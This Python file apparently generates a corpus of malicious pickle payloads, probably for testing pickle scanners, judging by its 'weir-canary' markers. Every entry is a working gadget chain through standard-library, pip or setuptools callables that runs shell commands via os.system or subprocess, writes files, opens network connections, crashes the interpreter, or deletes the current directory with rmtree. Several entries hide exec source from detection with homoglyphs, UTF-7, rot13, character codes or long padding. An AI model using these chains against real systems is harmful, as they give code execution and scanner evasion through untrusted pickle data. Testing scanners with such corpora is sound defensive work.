"""Second harvest: less known callables and chains of the standard library."""
import io
import tarfile

import zips
from asm import *
from book import add, ALL, PY3
from fam_stdlib import X as _X, SH, URL, c, module, namespace, ref

NSP = glob("argparse", "Namespace")
W = dict(gives="file-write")


def X(name, body, technique, **kw):
    _X(name, body, technique, family="chain", **kw)


def obj(target, **state):
    return build(Code(ref(target) + EMPTY_TUPLE + NEWOBJ), state)


SYS = SYSTEM
X("reconstructor-popen", c("copyreg:_reconstructor", glob("subprocess", "Popen"), glob("subprocess", "Popen"), SH), "copyreg._reconstructor, which protocol 0 and 1 write for every object, calls base.__init__: with subprocess.Popen as base it runs", on=PY3)
X("reconstructor-popen-27", c("copy_reg:_reconstructor", glob("subprocess", "Popen"), glob("subprocess", "Popen"), SH), "the same with the name of Python 2")
X("reconstructor-thread-pool", c("copyreg:_reconstructor", glob("logging", "FileHandler"), glob("logging", "FileHandler"), "weir-canary"), "copyreg._reconstructor with logging.FileHandler as base opens a file", on=PY3, **W)
X("newobj-function", c("copyreg:__newobj__", glob("builtins", "tuple"), c("copyreg:__newobj__", glob("builtins", "map"), SYS, [CMD])), "copyreg.__newobj__ by REDUCE, as protocol 2 names it", on=PY3)
X("copy-reconstruct", c("copy:_reconstruct", None, None, SYS, (CMD,)), "copy._reconstruct calls what it is given", on=PY3)
X("copy-reconstruct-27", c("copy:_reconstruct", None, (SYS, (CMD,)), 0), "copy._reconstruct of 2.7", on=["2.7"])
X("pickle-getattribute", call(c("operator:itemgetter", 0), c("pickle:_getattribute", module("os"), "system")) + MEMOIZE + POP + call(glob("builtins", "callable"), binget(0)) + POP + call(binget(0), CMD), "pickle._getattribute resolves a dotted name", on=ALL[1:8])
X("pickle-pickler-dump", c("pickle:dump", 1, c("io:open", "weir-canary", "wb")), "pickle.dump into an opened file", on=PY3, **W)
X("new-class-exec-body", c("types:new_class", "C", (), {}, call(("functools", "partial"), glob("builtins", "exec"), PY)), "types.new_class calls its body", on=PY3)
X("dataclass-default-factory", call(c("dataclasses:make_dataclass", "C", [("a", "int", kwcall(("dataclasses", "field"), (), {"default_factory": call(("functools", "partial"), SYS, CMD)}))])), "a dataclass whose default factory runs", on=ALL[2:])
X("linecache-loader", c("linecache:getlines", "absent.py", {"__name__": CMD, "__loader__": namespace(get_source=SYS)}), "linecache asks the loader of a dictionary for source: get_source = os.system", on=PY3)
X("warnings-explicit-loader", c("warnings:warn_explicit", "m", glob("builtins", "UserWarning"), "absent.py", 1, "m", None, {"__name__": CMD, "__loader__": namespace(get_source=SYS)}), "warnings.warn_explicit asks the loader of a dictionary for source", on=PY3)
X("xmlrpc-dispatch", c("xmlrpc.server:SimpleXMLRPCDispatcher._dispatch", obj("xmlrpc.server:SimpleXMLRPCDispatcher", funcs={"f": SYS}, instance=None), "f", (CMD,)), "xmlrpc.server's dispatcher calls a registered function")
X("xmlrpc-resolve", call(c("xmlrpc.server:resolve_dotted_attribute", module("logging"), "os.system"), CMD), "xmlrpc.server.resolve_dotted_attribute walks attributes", on=PY3)
X("cmd-onecmd", c("cmd:Cmd.onecmd", obj("cmd:Cmd", do_run=SYS), "run " + CMD), "cmd.Cmd.onecmd with do_run in its state")
X("argparse-type", code(c("argparse:ArgumentParser"), MEMOIZE, POP, kwcall(sg("argparse", "ArgumentParser.add_argument"), (binget(0), "x"), {"type": SYS}), POP, c("argparse:ArgumentParser.parse_args", binget(0), [CMD])), "an argparse argument whose type is os.system")
X("sqlite3-create-function", code(c("sqlite3:connect", ":memory:"), MEMOIZE, POP, c("sqlite3:Connection.create_function", binget(0), "f", 1, SYS), POP, c("sqlite3:Connection.executescript", binget(0), "CREATE TABLE t AS SELECT f('%s');" % CMD)), "sqlite3 calls os.system from a statement")
X("expat-comment-handler", call(getattr_(build(c("xml.parsers.expat:ParserCreate"), (None, {"CommentHandler": SYS})), "Parse"), "<a><!--%s--></a>" % CMD, True), "an expat parser whose comment handler, set by slot state of BUILD, is os.system", on=PY3)
X("htmlparser-handle-data", code(build(c("html.parser:HTMLParser"), {"handle_comment": SYS}), MEMOIZE, POP, c("html.parser:HTMLParser.feed", binget(0), "<!--%s-->" % CMD)), "an HTMLParser whose comment handler is os.system")
X("tkinter-tcl", call(getattr_(c("tkinter:Tcl"), "eval"), "exec sh -c {%s}" % CMD), "tkinter's Tcl interpreter runs a command", on=PY3)
X("_tkinter-create", call(getattr_(c("_tkinter:create", None, "x", "X", False, True, False, False, None), "eval"), "exec sh -c {%s}" % CMD), "_tkinter.create and eval", on=PY3)
X("zipfile-extractall", c("zipfile:ZipFile.extractall", c("zipfile:ZipFile", c("io:BytesIO", zips.plain([("weir-canary", b"weir\n")])))), "zipfile extracts an archive that the pickle carries", **W)


def tarred():
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.USTAR_FORMAT) as t:
        ti = tarfile.TarInfo("weir-canary")
        ti.size = 5
        t.addfile(ti, io.BytesIO(b"weir\n"))
    return out.getvalue()[:1024]


X("tarfile-extractall", c("tarfile:TarFile.extractall", c("tarfile:TarFile", None, "r", c("io:BytesIO", tarred()))), "tarfile extracts an archive that the pickle carries", **W)
X("shutil-unpack", c("pathlib:Path.write_bytes", c("pathlib:Path", "x.zip"), zips.plain([("weir-canary", b"weir\n")])) + POP + c("shutil:unpack_archive", "x.zip", "."), "shutil.unpack_archive of a dropped archive", **W)
X("uu-encode", c("uu:encode", "/dev/null", "weir-canary"), "uu.encode writes", **W)
X("pip-vendor-requests", c("pip._vendor.requests:get", URL), "pip carries requests", gives="network", canary="connect")
X("pip-vendor-six-exec", c("pip._vendor.six:exec_", PY), "pip carries six: exec_")
X("pip-vendor-six-import", call(getattr_(c("pip._vendor.six:_import_module", "os"), "system"), CMD), "pip carries six: _import_module", on=PY3)
X("pip-rmtree", c("pip._internal.utils.misc:rmtree", "."), "pip's rmtree", gives="file-write", canary="gone")
X("setuptools-edit-config", c("setuptools.command.setopt:edit_config", "weir-canary", {"a": {"b": "c"}}), "setuptools.command.setopt.edit_config writes a file", **W)
X("distutils-run-setup", c("pathlib:Path.write_text", c("pathlib:Path", "setup.py"), PY) + POP + c("distutils.core:run_setup", "setup.py"), "distutils.core.run_setup runs a dropped setup.py")
X("setuptools-sandbox-execfile", c("pathlib:Path.write_text", c("pathlib:Path", "s.py"), PY) + POP + c("setuptools.sandbox:_execfile", "s.py", {}), "setuptools.sandbox._execfile runs a dropped file")
X("multiprocessing-rebuildproxy", c("multiprocessing.managers:BaseProxy", c("multiprocessing.managers:Token", "x", ("127.0.0.1", 9), "id"), "pickle", None, None, b"key"), "multiprocessing.managers.BaseProxy connects and would unpickle", gives="network", canary="connect")
X("multiprocessing-resource-sharer", c("multiprocessing.resource_sharer:_ResourceSharer.get_connection", (("127.0.0.1", 9), 1)), "multiprocessing.resource_sharer connects", gives="network", canary="connect")
X("obj-zero-args", code(MARK, glob("os", "abort"), OBJ), "OBJ without arguments calls a function", gives="crash", canary="crash", on=["2.7", "3.6", "3.11", "3.13"])
X("inst-zero-args", code(MARK, b"ios\nabort\n"), "INST without arguments calls a function", gives="crash", canary="crash", on=["2.7", "3.6", "3.11", "3.13"])
X("exec-homoglyphs", c("builtins:exec", "ｏｐｅｎ('weir-canary','w')"), "the source for exec spells open in full-width letters, which Python folds", on=PY3)
X("exec-coding-cookie-utf7", c("builtins:exec", b"# coding: utf-7\n+AG8AcABlAG4-('weir-canary','w')\n"), "the source for exec is UTF-7 by its coding line", on=PY3)
X("exec-coding-unicode-escape", c("builtins:exec", b"# coding: unicode_escape\n\\x6f\\x70\\x65\\x6e('weir-canary','w')\n"), "the source for exec is in escapes by its coding line", on=PY3)
X("exec-coding-rot13", c("builtins:exec", c("codecs:decode", "bcra('jrve-pnanel','j')", "rot13")), "the source for exec is rot13", on=PY3)
X("exec-concat", c("builtins:exec", "getattr(__import__('o'+'s'),'sys'+'tem')('echo weir > weir-'+'canary')"), "the source for exec joins its names")
X("exec-chr", c("builtins:exec", "exec(''.join(map(chr,%r)))" % (list(PY.encode()),)), "the source for exec is a list of character codes")
X("exec-decorator", c("builtins:exec", "@__import__('os').system\n@lambda f: %r\nclass X: pass" % CMD), "the source for exec calls through a decorator, without an argument list", on=ALL[4:])
X("exec-class-getitem", c("builtins:exec", "import os\nclass M(type):\n  __getitem__ = lambda c, x: os.system(x)\nclass X(metaclass=M): pass\nX[%r]" % CMD), "the source for exec calls through an index", on=PY3)
X("eval-comprehension", c("builtins:eval", "[x for x in ().__class__.__base__.__subclasses__() if x.__name__ == 'catch_warnings'][0]()._module.__builtins__['open']('weir-canary','w')"), "eval reaches open through the subclasses of object", on=PY3)
X("eval-walrus-lambda", c("builtins:eval", "(lambda o: o('weir-canary', 'w'))(open)"), "eval calls through a lambda")
X("eval-fstring", c("builtins:eval", "f\"{open('weir-canary','w')}\""), "eval of an f-string", on=PY3)
X("eval-long-padding", c("builtins:eval", " " * 30000 + "open('weir-canary','w')"), "thirty thousand blanks before the expression")
X("eval-in-dict-argument", c("builtins:eval", "f(x)", {"f": SYS, "x": CMD}), "the expression of eval names nothing: its globals give os.system")
X("eval-globals-builtins", c("builtins:eval", "len(x)", {"__builtins__": {"len": SYS}, "x": CMD}), "the globals of eval make len os.system")
X("formatter-get-field-resolve", call(call(c("operator:itemgetter", 0), c("string:Formatter.get_field", c("string:Formatter"), "0.system", [module("os")], {})), CMD), "string.Formatter.get_field walks attributes", on=PY3)
X("class-missing-format-map", build(glob("collections", "UserDict"), (None, {"__missing__": None})) + POP + build(NSP, (None, {"__getitem__": SYS})) + POP + call(sg("builtins", "str.format_map"), "{%s}" % CMD, Code(NSP + EMPTY_TUPLE + NEWOBJ)), "str.format_map asks an object whose __getitem__ is os.system: the command is a field's name", on=PY3)
X("percent-format-mapping", build(NSP, (None, {"__getitem__": SYS})) + POP + c("operator:mod", "%%(%s)s" % CMD, Code(NSP + EMPTY_TUPLE + NEWOBJ)), "%-formatting asks an object whose __getitem__ is os.system", on=PY3)
X("unittest-case-run", c("unittest.case:FunctionTestCase.debug", obj("unittest.case:FunctionTestCase", _testFunc=build(new(("functools", "partial"), glob("builtins", "int")), (SYS, (CMD,), {}, {})), _setUpFunc=None, _testMethodName="runTest", _tearDownFunc=None, _cleanups=[], _description="x")), "a FunctionTestCase made by NEWOBJ and BUILD, then debug()")
X("asyncio-loop-call-soon", code(c("asyncio:new_event_loop"), MEMOIZE, POP, call(getattr_(binget(0), "call_soon"), SYS, CMD), POP, call(getattr_(binget(0), "call_soon"), getattr_(binget(0), "stop")), POP, call(getattr_(binget(0), "run_forever"))), "an asyncio loop runs os.system by call_soon", on=PY3)
X("asyncio-run-in-executor", code(c("asyncio:new_event_loop"), MEMOIZE, POP, call(getattr_(binget(0), "run_until_complete"), call(getattr_(binget(0), "run_in_executor"), None, SYS, CMD))), "an asyncio loop runs os.system in its executor", on=PY3)
X("logging-handler-filter", c("logging:Logger.callHandlers", obj("logging:Logger", handlers=[namespace(level=0, handle=glob("builtins", "print"))], propagate=False, parent=None), namespace(levelno=10)) + POP + c("logging:Handler.handle", obj("logging:Handler", filters=[SYS], lock=None), CMD), "a logging handler whose filter is os.system", on=PY3)
X("logging-filterer", c("logging:Filterer.filter", obj("logging:Filterer", filters=[SYS]), CMD), "logging.Filterer.filter calls its filters", on=PY3)
X("queue-listener", c("logging.handlers:QueueListener.handle", obj("logging.handlers:QueueListener", handlers=[namespace(handle=SYS)], respect_handler_level=False), CMD), "logging's QueueListener hands a record to a handler whose handle is os.system", on=PY3)
X("csv-writer-write", c("csv:DictWriter.writerow", build(c("csv:DictWriter", namespace(write=SYS), ["a"]), {}), {"a": CMD}), "csv writes a row through write = os.system", on=PY3)
X("print-file-write", kwcall(("builtins", "print"), (CMD,), {"file": namespace(write=SYS), "end": ""}), "print into an object whose write is os.system", on=PY3)
X("copyfileobj-write", c("json:dump", CMD, namespace(write=glob("builtins", "print")), ) + POP + c("shutil:copyfileobj", c("io:StringIO", CMD), namespace(write=SYS)), "shutil.copyfileobj into an object whose write is os.system", on=PY3)
X("functools-reduce-getattr", c("functools:reduce", glob("operator", "getitem"), [{"a": {"b": 1}}, "a"]) + POP + c("functools:reduce", glob("builtins", "getattr"), [module("logging"), "os", "system"]) + MEMOIZE + POP + call(binget(0), CMD), "functools.reduce of getattr walks to os.system", on=PY3)
X("iter-readline", call(("builtins", "next"), c("tokenize:tokenize", call(("functools", "partial"), glob("subprocess", "check_output"), SH))), "tokenize calls its readline", on=PY3)
X("iter-generate-tokens", call(("builtins", "next"), c("tokenize:generate_tokens", call(("functools", "partial"), glob("subprocess", "getoutput"), CMD))), "tokenize.generate_tokens calls its readline")
X("streamreader-read", call(getattr_(call(c("codecs:getreader", "utf-8"), namespace(read=call(("functools", "partial"), glob("subprocess", "check_output"), SH))), "read")), "a codec's StreamReader reads from an object whose read runs a command", on=PY3)
X("gettext-fallback", c("gettext:NullTranslations.gettext", obj("gettext:NullTranslations", _fallback=namespace(gettext=SYS)), CMD), "gettext asks a fallback whose gettext is os.system", on=PY3)
X("runpy-zip", c("pathlib:Path.write_bytes", c("pathlib:Path", "weir.zip"), zips.plain([("__main__.py", PY.encode())])) + POP + c("runpy:run_path", "weir.zip"), "runpy.run_path of a dropped zip with __main__.py")
X("cgi-log", build(module("cgi"), {"logfile": "weir-canary"}) + POP + c("cgi:initlog", "x"), "cgi.initlog opens the file that BUILD put into its module", on=ALL[1:8], **W)
X("webbrowser-register", c("webbrowser:register", "w", None, namespace(open=SYS)) + POP + call(getattr_(c("webbrowser:get", "w"), "open"), CMD), "a browser registered whose open is os.system", on=PY3)
X("namespace-to-thread", build(Code(NSP + EMPTY_TUPLE + NEWOBJ), (None, {"_target": SYS, "_args": (CMD,), "_kwargs": {}, "__class__": glob("threading", "Thread")})) + MEMOIZE + POP + c("threading:Thread.run", binget(0)), "slot state of BUILD turns a Namespace into a Thread by its __class__", on=PY3)
X("property-getter-getattr", build(NSP, (None, {"y": c("builtins:property", c("operator:methodcaller", "z", CMD))})) + POP + getattr_(build(Code(NSP + EMPTY_TUPLE + NEWOBJ), {"z": SYS}), "y"), "a class gets a property, getattr runs its getter", on=PY3)
